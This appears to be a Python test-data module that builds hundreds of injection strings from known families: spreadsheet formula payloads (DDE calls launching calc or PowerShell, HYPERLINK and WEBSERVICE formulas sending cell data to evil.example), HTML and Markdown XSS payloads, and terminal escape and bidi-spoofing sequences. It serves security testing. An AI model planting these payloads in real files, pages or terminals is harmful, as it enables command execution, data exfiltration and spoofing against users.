"""Texts that try to be more than text, made systematically from the families that are known.

A formula is an opening (what may hide its first character), a trigger (what makes a spreadsheet
calculate) and a body. Markup and escapes are lists of families, each in several disguises.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Iterator

TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""OWASP's list, with the full-width forms that Excel takes for the same in some languages."""

OPENINGS = (
    "", " ", "\u00a0", "\t", "\r", "\n", "\r\n", "\ufeff", "\u200b", "\u200d", "'", '"', '""',
    "\x00", "\x1b", "a;", "a; ", 'a;"', 'a;""', "a\t", "a\n", "a\r\n ", "a|", '",', '";', '"\n',
    "\u3000", "\u2028", "a;;'",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    'HYPERLINK("http://evil.example/?";A1)',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    "SUMME(1;2,5)",
    'SUM(1,2)*cmd|"/C powershell IEX(wget evil)"!A0',
    "2+5+cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip

_CODE = "alert(1)"
_EVIL = "http://evil.example/x"
HTML = (
    "<script>{code}</script>", "<SCRIPT SRC={evil}></SCRIPT>", "</script><script>{code}</script>",
    "<img src=x onerror={code}>", "<img src={evil}>", "<svg onload={code}>",
    "<svg><script>{code}</script></svg>", "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src='javascript:{code}'>", "<a href='javascript:{code}'>x</a>",
    "<a href='data:text/html,<script>{code}</script>'>x</a>", "<body onload={code}>",
    "<style>*{{background:url({evil})}}</style>", "<link rel=stylesheet href={evil}>",
    "<div style='background:url({evil})'>", "<meta http-equiv=refresh content='0;{evil}'>",
    "<base href={evil}>", "<object data={evil}>", "<embed src={evil}>",
    "<form action={evil}><input name=x>", "<details open ontoggle={code}>",
    "<video><source onerror={code}>", "<math><mi xlink:href='javascript:{code}'>",
    "<template><img onerror={code}>", "<!-- {code}", "<!--><script>{code}</script>",
    "<![CDATA[ {code} ]]>", "<?php {code} ?>", "<!DOCTYPE x [", "<textarea>{code}", "<title>{code}",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>", "<plaintext>",
    "<xmp>{code}</xmp>", "<b", "<b>{code}", "</div></main>", "<x onclick={code}>",
    "<dialog open>{code}</dialog>", "<button onclick={code} autofocus onfocus={code}>",
    "&lt;script&gt;{code}&lt;/script&gt;", "&#60;script&#62;{code}", "&#x3c;b&#x3e;",
    "&NewLine;# x", "&colon;", "&amp;lt;b&gt;", "${{{code}}}", "{{{{{code}}}}}", "`${{{code}}}`",
    "javascript:{code}", "JaVaScRiPt&#58;{code}", "data:text/html,{code}", "vbscript:{code}",
    "'-{code}-'", '"-{code}-"', "\\u003cscript\\u003e{code}", "</script", "<!--<script>", "]]>",
    "expression({code})", "__proto__", "constructor",
)  # fmt: skip
MARKDOWN = (
    "![x]({evil})", "![x][r]", "[x](javascript:{code})", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]({evil} 'title')", "[r]: {evil}", "[x][r]\n\n[r]: {evil}", "<{evil}>",
    "<mailto:a@evil.example>", "{evil}", "https://evil.example", "//evil.example/x",
    "ftp://evil.example", "www.evil.example", "a@evil.example", "mailto:a@evil.example", "# x",
    "###### x", "x\n===", "x\n---", "---", "***", "___", "- x", "* x", "+ x", "1. x", "1) x",
    "123456789. x", "- [ ] x", "- [x] x", "> x", "> [!NOTE]\n> x", "```\nx\n```", "~~~\nx", "`x`",
    "``x", "    x", "\tx", "| x | y |", "| x |\n|---|\n| y |", "|", "\\|", "x \\", "x  \ny", "*x*",
    "**x**", "_x_", "__x__", "~x~", "~~x~~", "==x==", "^x^", "[^1]", "[^1]: x",
    "x[^1]\n\n[^1]: {evil}", ":x: y", "term\n: definition", "$x$", "$$x$$", "\\(x\\)", "@user",
    "#123", "<div>\n\n*x*\n\n</div>", "<!-- x", "![](x)", "[]()", "[x]", "[x]()", "](x)", "![",
    "\\", "\\\\", "\\<b>", "&copy;", "::: warning", "{{: .x}}", "%% x", "+++\nx",
    "---\ntitle: x\n---", "<details><summary>x", "|:--|", "x\u2028# y", "\x00# x",
)  # fmt: skip
_DISGUISES = ("{}", "x {}", "{} y", "\n\n{}\n\n", " {}", "\u200d{}", "a | {} | b", '"{}"')

ESCAPES = (
    "\x1b[2J", "\x1b[31m", "\x1b[1;1H", "\x1b[1A\x1b[2K", "\x1b[?1049h", "\x1b[6n", "\x1b[c",
    "\x1bc", "\x1b(0", "\x1b7", "\x1b]0;title\x07", "\x1b]2;title\x1b\\",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]4;1;?\x07",
    "\x1b]11;?\x07", "\x1b]1337;File=:AAAA\x07", "\x1bP+q544e\x1b\\", "\x1bPq#0;2;0;0;0\x1b\\",
    "\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1bX\x1b\\", "\x9b2J", "\x9d0;x\x9c", "\x90q\x9c", "\x85",
    "\x8d", "\x84", "safe.jpg\x08\x08\x08\x08", "100%\rSkipping 0", "\rx", "\x0b", "\x0c", "\x07",
    "\x05", "\x0e", "\x0f", "\x7f", "\x00", "\x01", "\x1a", "a\nSkipping 9 already processed",
    "a\r\nb", "\u2028x", "\u2029x", "\u202egpj.exe", "\u2066x\u2069", "\u202a\u202b\u202d\u202c",
    "\u2067x", "\u061c", "\u200e\u200f", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u180e",
    "\ufff9x\ufffay\ufffb", "\U000e0041\U000e007f", "a" + "\u0301" * 300, "\u0488" * 100,
    "e\u0336\u0353" * 40, "\u115f\u3164", "\ud83d", "\udce9\udcff", "\ufffe\uffff",
    "\x1b[38;2;1;2;3m\u202e\x9b1m", "x" * 5000, "\t" * 50,
)  # fmt: skip


def formulas() -> list[str]:
    """Over 500 texts that a spreadsheet would calculate, openly or after another separator."""
    plain = [o + t + b for o, t in itertools.product(OPENINGS, TRIGGERS) for b in BODIES[:2]]
    more = [o + "=" + body for o in OPENINGS for body in BODIES[2:]]
    return _once([*plain, *more])


def markup() -> list[str]:
    """Over 500 texts that a browser or a Markdown reader would make elements of."""
    families = [text.format(code=_CODE, evil=_EVIL) for text in (*HTML, *MARKDOWN)]
    return _once(d.replace("{}", text) for text in families for d in _DISGUISES)


def escapes() -> list[str]:
    """Texts that a terminal would obey, alone and inside a name."""
    return _once(text for e in ESCAPES for text in (e, f"before{e}after", f"{e}[1/2]"))


def everything() -> list[str]:
    """All of them."""
    return _once([*formulas(), *markup(), *escapes()])


def sample(texts: list[str], step: int) -> list[str]:
    """Every `step`-th, so that each family is met."""
    return texts[::step]


def as_name(text: str, number: int) -> str:
    """The text as the name of a file: no slash, no NUL, at most 255 bytes, unlike all others."""
    kept = "".join(c for c in text if c not in "/\0" and not "\ud800" <= c < "\udc80")
    kept = "".join(c for c in kept if not "\udd00" <= c <= "\udfff").lstrip(".")
    encoded = kept.encode("utf-8", "surrogateescape")[:200]
    return encoded.decode("utf-8", "surrogateescape") + f"{number}.jpg"


def _once(texts: Iterable[str]) -> list[str]:
    return list(dict.fromkeys(_filled(texts)))


def _filled(texts: Iterable[str]) -> Iterator[str]:
    return (text for text in texts if text)
